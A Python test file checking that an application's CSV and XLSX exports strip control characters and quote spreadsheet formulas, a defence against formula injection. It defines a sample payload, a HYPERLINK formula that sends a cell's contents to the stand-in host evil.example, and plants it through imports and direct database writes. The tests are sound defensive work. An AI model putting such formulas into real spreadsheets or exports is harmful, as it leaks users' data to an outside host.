"""Exports survive control characters and carry no formulas (issue 17, point 2)."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from app.exchange.cells import safe_cell, safe_text, unquote_formula
from app.store import records
from app.tables.tables import Handover, HandoverParty, Organisation
from tests.exchange.conftest import staff_csv
from tests.helpers import bearer

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'


def test_the_gate_strips_control_characters_and_quotes_formulas() -> None:
    assert safe_text("a\x00b\x01c\x08d\x0be\x0cf\x0eg\x1fh") == "abcdefgh"
    assert safe_text("regel\ten\nnieuw\r") == "regel\ten\nnieuw\r"
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert safe_text(f"{start}1+1") == f"'{start}1+1"
    assert safe_text("\x01=1+1") == "'=1+1"  # stripping cannot uncover a formula
    assert safe_text("Anna") == "Anna"
    assert safe_cell(-0.5) == -0.5
    assert safe_cell(None) is None
    for text in ("=1+1", "-", "@x", "'quoted", "'=1", "''-", "''", "'", "Anna"):
        assert unquote_formula(safe_text(text)) == text


def xlsx_rows(content: bytes) -> list[list]:
    sheet = load_workbook(io.BytesIO(content)).active
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


async def test_handover_export_with_a_control_character_and_a_formula(
    client, keys, handover
) -> None:
    organisation = await records.create(Organisation, {"name": "Beheer\x01 BV"}, actor="test")
    await records.create(
        HandoverParty,
        {"handover": handover["id"], "role": "source", "organisation": organisation["id"]},
        actor="test",
    )
    # Stored directly, as an older import or API may have let them in
    await Handover.update({Handover.title: FORMULA}).where(Handover.id == handover["id"])
    await Organisation.update({Organisation.name: "Beheer\x01 BV"}).where(
        Organisation.id == organisation["id"]
    )
    try:
        url = "/api/v1/exports/handovers"
        workbook = await client.get(
            url, params={"format": "xlsx"}, headers=bearer(keys["registrar"])
        )
        assert workbook.status_code == 200, workbook.text
        row = next(r for r in xlsx_rows(workbook.content) if r[0] == str(handover["id"]))
        assert row[1] == "'" + FORMULA
        assert "Beheer BV" in row
        assert not any("\x01" in str(v) for v in row)

        text = await client.get(url, params={"format": "csv"}, headers=bearer(keys["registrar"]))
        assert text.status_code == 200, text.text
        row = next(r for r in csv_rows(text.content) if r[0] == str(handover["id"]))
        assert row[1] == "'" + FORMULA
        assert "Beheer BV" in row
        assert "\x01" not in text.content.decode("utf-8-sig")
    finally:
        await Handover.update({Handover.title: "Uitwisseltest: formule"}).where(
            Handover.id == handover["id"]
        )
        await HandoverParty.delete().where(HandoverParty.organisation == organisation["id"])
        await Organisation.delete().where(Organisation.id == organisation["id"])


async def test_staff_export_of_a_formula_planted_through_an_import(
    client, keys, exchange_world, handover
) -> None:
    data = staff_csv(f'H-1;"{FORMULA.replace(chr(34), chr(34) * 2)}";@SUM(A1);0,8;Proefdienst A;')
    headers = {**bearer(exchange_world["hr_key"]), "Content-Type": "text/csv"}
    imported = await client.post(
        f"/api/v1/handovers/{handover['id']}/staff/imports", content=data, headers=headers
    )
    assert imported.status_code == 200, imported.text
    url = f"/api/v1/exports/handovers/{handover['id']}/staff"
    workbook = await client.get(url, params={"format": "xlsx"}, headers=bearer(keys["registrar"]))
    assert workbook.status_code == 200, workbook.text
    _header, row = xlsx_rows(workbook.content)
    assert row[:4] == ["H-1", "'" + FORMULA, "'@SUM(A1)", 0.8]
    text = await client.get(url, params={"format": "csv"}, headers=bearer(keys["registrar"]))
    assert csv_rows(text.content)[1][:4] == ["H-1", "'" + FORMULA, "'@SUM(A1)", "0,8"]
    for exported, content_type in ((text, "text/csv"), (workbook, XLSX)):
        again = await client.post(
            f"/api/v1/handovers/{handover['id']}/staff/imports",
            content=exported.content,
            headers={**headers, "Content-Type": content_type},
        )
        assert again.json() == {"rows": 1, "written": 0, "problems": []}  # imports back unchanged
